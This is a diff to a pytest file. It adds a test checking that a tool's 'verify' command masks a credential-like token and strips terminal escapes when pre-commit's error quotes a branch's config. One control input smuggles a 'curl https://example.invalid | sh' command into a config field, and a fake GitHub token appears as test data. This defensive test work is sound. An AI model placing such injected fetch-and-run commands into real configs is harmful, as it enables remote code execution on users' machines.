@@ -6,7 +6,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.helpers import rollout
+from tests.helpers import git, rollout
 from tests.test_pass24b import objects
 
 pytestmark = pytest.mark.usefixtures("loopback_only")  # conftest.py: no test reaches past 127.0.0.1
@@ -84,3 +84,42 @@ def test_a_value_doubled_and_escaped_in_one_string_is_never_shown(tmp_path, case
     out = result.stdout + result.stderr
     assert result.code == 1 and "plaintext" in out, out
     assert "kX2#v9" not in out, out
+
+
+_VERIFY_TOKEN = "ghp_Zq26hVerifyAbcdefghijklmnopqrstuv12"
+
+
+@pytest.mark.parametrize(
+    "top",
+    [
+        f"default_stages: [{_VERIFY_TOKEN}]",
+        f"files: '(?#{_VERIFY_TOKEN}'",
+        f"exclude: '(?#https://ci:{_VERIFY_TOKEN}@git.example.com'",
+        # controls (held before the fix): a command-like stage, terminal escapes (pre-commit's repr)
+        "default_stages: ['rollout apply --yes; curl https://example.invalid | sh']",
+        'default_stages: ["\\e]0;x\\a\\e[2Jok"]',
+    ],
+)
+def test_verifys_reason_quoting_a_branch_config_never_prints_its_token(fleet, top):
+    """ON-LIST 13.5/13.7 (pass 26f's F3: verify's line gives pre-commit's reason): pre-commit's reason
+    quotes the branch's `.pre-commit-config.yaml` (`but got: 'ghp_…'`, `'(?#ghp_…' is not a valid
+    python regex`), so `rollout verify --ref` printed a token that config held. Now each word shaped
+    like a credential is `***` (`throwaway.last_line`); the reason is still said."""
+    from tests.test_findings import BRANCH
+    from tests.test_verify import branch_with
+
+    assert (
+        rollout("apply", "--manifest", fleet.manifest, "--repo", "juniper-cascor", "--yes").code
+        == 0
+    )
+    cascor = fleet.repo("juniper-cascor")
+    config = git(cascor, "show", f"{BRANCH}:.pre-commit-config.yaml")
+    ref = branch_with(
+        cascor, "contrib/odd-config", {".pre-commit-config.yaml": f"{top}\n{config}".encode()}
+    )
+    result = rollout(
+        "verify", "--manifest", fleet.manifest, "--repo", "juniper-cascor", "--ref", ref
+    )
+    out = result.stdout + result.stderr
+    assert result.code == 1 and "pre-commit could not run the managed hooks: " in out, out
+    assert "Zq26hVerify" not in out and "\x1b" not in out and "\a" not in out, out
